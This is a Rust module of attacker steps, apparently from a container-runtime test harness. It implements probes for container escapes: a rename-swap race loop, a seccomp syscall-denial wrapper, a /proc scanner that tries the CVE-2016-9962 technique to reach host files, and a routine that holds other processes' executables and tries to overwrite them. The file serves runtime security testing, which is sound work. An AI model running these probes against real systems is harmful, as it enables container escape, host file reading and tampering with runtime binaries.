//! Steps that play the attacker: on the host beside a runtime that works, or inside a container.
//! They touch only what they are given.

use std::fs;
use std::os::unix::process::CommandExt;
use std::path::Path;

use nix::fcntl::{AT_FDCWD, OFlag, RenameFlags, open, renameat2};
use nix::sys::stat::Mode;
use serde_json::{Value, json};

use crate::sys;

/// Swaps between two looks for the stop file.
const ROUND: u64 = 128;

/// `swap A B STOP`: exchanges the names A and B until the file STOP is there, an even number of
/// times; how often.
pub fn swap(args: &[&str]) -> Result<Value, String> {
    let [a, b, stop] = args else { return Err("swap A B STOP".to_owned()) };
    let mut count = 0_u64;
    while !Path::new(stop).exists() {
        for _ in 0..ROUND {
            let swapped = renameat2(AT_FDCWD, *a, AT_FDCWD, *b, RenameFlags::RENAME_EXCHANGE);
            swapped.map_err(|errno| format!("{a} and {b}: {errno}"))?;
        }
        count += ROUND;
    }
    Ok(json!({"swaps": count}))
}

/// `deny ERRNO NUMBER[,NUMBER...] PROGRAM [ARG...]`: executes the program in a world where these
/// system calls answer this errno. `319:16` denies number 319 only if its second argument has a bit
/// of 16 (`memfd_create` with `MFD_EXEC`). The first step only: all that follows is its arguments.
pub fn deny(args: &[&str]) -> Result<Value, String> {
    let (errno, rest) = args.split_first().ok_or("no errno")?;
    let (numbers, command) = rest.split_first().ok_or("no numbers")?;
    let (program, rest) = command.split_first().ok_or("no program")?;
    let errno: u32 = errno.parse().map_err(|_| format!("not an errno: {errno}"))?;
    let mut denied = Vec::new();
    for entry in numbers.split(',') {
        let (number, bits) = entry.split_once(':').unwrap_or((entry, "0"));
        let parse = |text: &str| text.parse::<u32>().map_err(|_| format!("not a number: {text}"));
        denied.push((parse(number)?, parse(bits)?));
    }
    sys::deny(errno, &denied).map_err(|errno| format!("seccomp: {errno}"))?;
    Err(std::process::Command::new(program).args(rest).exec().to_string())
}

/// `spy STOP PRIZE`: until STOP is there, tries on every other process but the first what
/// CVE-2016-9962 did, and lists what worked on a process that was not yet the probe; apart from
/// that, through what of it the file PRIZE of the host could be seen.
pub fn spy(args: &[&str]) -> Result<Value, String> {
    let [stop, prize] = args else { return Err("spy STOP PRIZE".to_owned()) };
    let me = std::process::id();
    let (mut seen, mut rounds) = (0_u64, 0_u64);
    let (mut reached, mut won) = (Vec::new(), Vec::new());
    while !Path::new(stop).exists() {
        rounds += 1;
        let Ok(dir) = fs::read_dir("/proc") else { continue };
        for entry in dir.flatten() {
            let Some(pid) = entry.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
                continue;
            };
            if pid <= 1 || pid == me || named(pid) == "probe" {
                continue;
            }
            seen += 1;
            won.extend(outside(pid, prize));
            reached.extend(reach(pid));
        }
    }
    Ok(json!({"rounds": rounds, "seen": seen, "reached": reached, "won": won}))
}

/// Ways through a process to a file of the host.
fn outside(pid: u32, prize: &str) -> Vec<String> {
    let up = "../".repeat(16);
    let mut ways = vec![format!("/proc/{pid}/root{prize}"), format!("/proc/{pid}/cwd/{up}{prize}")];
    ways.extend((0..32).map(|fd| format!("/proc/{pid}/fd/{fd}/{up}{prize}")));
    ways.retain(|way| Path::new(way).exists());
    ways
}

fn named(pid: u32) -> String {
    fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default().trim().to_owned()
}

/// What of a process can be had while it is not yet the container's program.
fn reach(pid: u32) -> Vec<String> {
    let mut got = Vec::new();
    let mut try_one = |what: &str, worked: bool| {
        // Only what worked before it became the program counts.
        let name = named(pid);
        if worked && name != "probe" && !name.is_empty() {
            got.push(format!("{what} of {pid} ({name})"));
        }
    };
    for file in ["root", "cwd", "exe"] {
        let path = format!("/proc/{pid}/{file}");
        try_one(file, open(path.as_str(), OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()).is_ok());
    }
    let mem = format!("/proc/{pid}/mem");
    try_one("mem", open(mem.as_str(), OFlag::O_RDWR | OFlag::O_CLOEXEC, Mode::empty()).is_ok());
    for fd in 0..32 {
        let path = format!("/proc/{pid}/fd/{fd}");
        try_one("fd", open(path.as_str(), OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()).is_ok());
    }
    if let Ok(pidfd) = sys::raw(libc::SYS_pidfd_open, [pid.into(), 0, 0, 0, 0, 0]) {
        for fd in 0..16 {
            let copy = sys::raw(libc::SYS_pidfd_getfd, [pidfd as u64, fd, 0, 0, 0, 0]);
            try_one("pidfd_getfd", copy.is_ok());
            if let Ok(copy) = copy {
                let _closed = sys::raw(libc::SYS_close, [copy as u64, 0, 0, 0, 0, 0]);
            }
        }
        let _closed = sys::raw(libc::SYS_close, [pidfd as u64, 0, 0, 0, 0, 0]);
    }
    got
}

/// `keep-exe STOP`: holds every executable it can find in /proc without being able to write it,
/// and tries to write to each once STOP is there: what came of it.
pub fn keep_exe(args: &[&str]) -> Result<Value, String> {
    let stop = args.first().ok_or("keep-exe STOP")?;
    let (me, mut held) = (std::process::id(), Vec::new());
    while !Path::new(stop).exists() {
        let Ok(dir) = fs::read_dir("/proc") else { continue };
        for entry in dir.flatten() {
            let Some(pid) = entry.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
                continue;
            };
            let flags = OFlag::O_PATH | OFlag::O_CLOEXEC;
            let link = format!("/proc/{pid}/exe");
            if pid != me && held.len() < 400 {
                let target = fs::read_link(&link).unwrap_or_default();
                if !target.ends_with("probe")
                    && let Ok(fd) = open(link.as_str(), flags, Mode::empty())
                {
                    held.push((fd, target));
                }
            }
        }
    }
    let mut written = Vec::new();
    let mut targets = Vec::new();
    for (fd, target) in &held {
        use std::os::fd::AsRawFd;
        let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
        targets.push(target.display().to_string());
        if let Ok(mut file) = fs::OpenOptions::new().write(true).open(&path) {
            use std::io::Write;
            if file.write(b"#!/overwritten").is_ok() || file.set_len(0).is_ok() {
                written.push(target.display().to_string());
            }
        }
    }
    targets.sort();
    targets.dedup();
    Ok(json!({"held": held.len(), "targets": targets, "written": written}))
}
